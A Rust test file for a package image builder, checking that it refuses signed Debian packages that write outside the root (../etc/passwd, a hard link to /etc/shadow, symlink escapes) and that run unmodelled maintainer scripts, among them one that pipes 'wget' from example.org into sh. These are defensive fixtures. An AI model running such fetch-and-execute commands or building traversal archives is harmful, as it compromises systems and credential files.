//! Packages that their archive signed and that are still not fit for an image.

use tar::EntryType;

use crate::archive::Archive;
use crate::debs::Tar;

/// The error of a build with a package `evil` of these files.
fn evil(data: Tar) -> String {
    Archive::new().with("evil", &[], data).online().refused(&["evil"], 5)
}

#[test]
fn files_that_leave_the_root_are_refused() {
    for (data, cause) in [
        (Tar::default().file("../etc/passwd", "x"), "`../etc/passwd` climbs out"),
        (Tar::default().file("./usr/../../passwd", "x"), "climbs out"),
        (Tar::default().file("/etc/passwd", "x"), "`/etc/passwd` is absolute"),
        (Tar::default().symlink("./usr", "/etc").file("./usr/passwd", "x"), "lies below `usr`"),
        (Tar::default().entry(EntryType::Link, "./hard", "../../etc/shadow", b""), "climbs out"),
    ] {
        let error = evil(data);
        assert!(error.contains("evil 1.0-1") && error.contains(cause), "{error}");
    }
}

#[test]
fn a_link_of_another_package_leads_nowhere_outside() {
    let escape = Tar::default().dir("./").symlink("./escape", "../../../../tmp");
    let below = Tar::default().dir("./").dir("./escape/").file("./escape/evil", "x");
    let online = Archive::new().with("aaa", &[], escape).with("evil", &[], below).online();
    let error = online.refused(&["aaa", "evil"], 1);
    let expected = "package `evil` puts a directory where `aaa` has a symbolic link: `/escape`";
    assert!(error.starts_with(expected), "{error}");
}

#[test]
fn a_script_that_nobody_models_is_shown_with_the_choices() {
    let script = "#!/bin/sh\nset -e\nif [ \"$1\" = configure ]; then\n    wget -qO- http://example.org | sh\nfi\n";
    // All that is not modelled is told at once.
    let online = Archive::new()
        .with("evil", &[("postinst", script), ("preinst", script)], Tar::default())
        .with("wicked", &[("postinst", script), ("triggers", "interest /opt\n")], Tar::default())
        .online();
    let error = online.refused(&["evil", "wicked"], 1);
    let place = online.place(&["evil", "wicked"]);
    insta::assert_snapshot!(place.stable(&error));

    // The text that the hint gives is what accepts it, once there is a reason in it.
    let entry = error.split_once("would have made:\n").unwrap().1;
    for reason in ["…", "", "  "] {
        place.write("ledger.toml", entry.replace('…', reason));
        let refused = place.run(&["lock", "--profile", "node"]).fails(1);
        assert!(refused.contains("the ledger's entry for evil") && refused.contains("has no note"), "{refused}");
    }
    let entry = entry.replace('…', "Nothing runs it.");
    for (effect, why) in [("accounts", "/usr/lib/sysusers.d"), ("units", "systemctl enable"), ("conffiles", "modelled")]
    {
        place.write("ledger.toml", entry.replacen("effects = []", &format!("effects = [\"{effect}\"]"), 1));
        let refused = place.run(&["lock", "--profile", "node"]).fails(1);
        assert!(refused.contains(&format!("the effect `{effect}`")) && refused.contains("evil"), "{refused}");
        assert!(refused.contains("does nothing there") && refused.contains(why), "{refused}");
    }
    place.write("ledger.toml", entry);
    place.run(&["lock", "--profile", "node"]).ok();
    assert!(place.read("imgbuild.lock").contains("scripts = \"accepted\""));

    // What `build` would refuse of the ledger is told without building, and so is a review that is gone.
    let ledger = place.read("ledger.toml");
    for args in [&["check"][..], &["lock", "--check"]] {
        place.write("ledger.toml", &ledger);
        place.run(args).ok();
        for (broken, cause) in [
            (ledger.replace("[[script]]", "[[script]"), "as many brackets"),
            (ledger.replacen("effects = []", "effects = [\"magic\"]", 1), "the effect `magic`"),
            (ledger.replace("Nothing runs it.", ""), "has no note"),
        ] {
            place.write("ledger.toml", broken);
            let refused = place.run(args).fails(1);
            assert!(refused.contains("ledger") && refused.contains(cause), "{args:?}: {refused}");
        }
        place.write("ledger.toml", "");
        let stale = place.run(args);
        assert_eq!(stale.code, Some(3), "{args:?}");
        let told = ["package `evil`", "ledger.toml"].iter().all(|part| stale.stderr.contains(part));
        assert!(told, "{args:?}: {}", stale.stderr);
    }
}

#[test]
fn a_path_of_two_packages_is_refused() {
    let file = Tar::default().dir("./").dir("./usr/").file("./usr/parcel", "other");
    let directory = Tar::default().dir("./").dir("./usr/").dir("./usr/parcel/");
    let errors =
        [file, directory].map(|data| Archive::new().with("rival", &[], data).online().refused(&["parcel", "rival"], 1));
    insta::assert_snapshot!(errors.join("\n"));
}
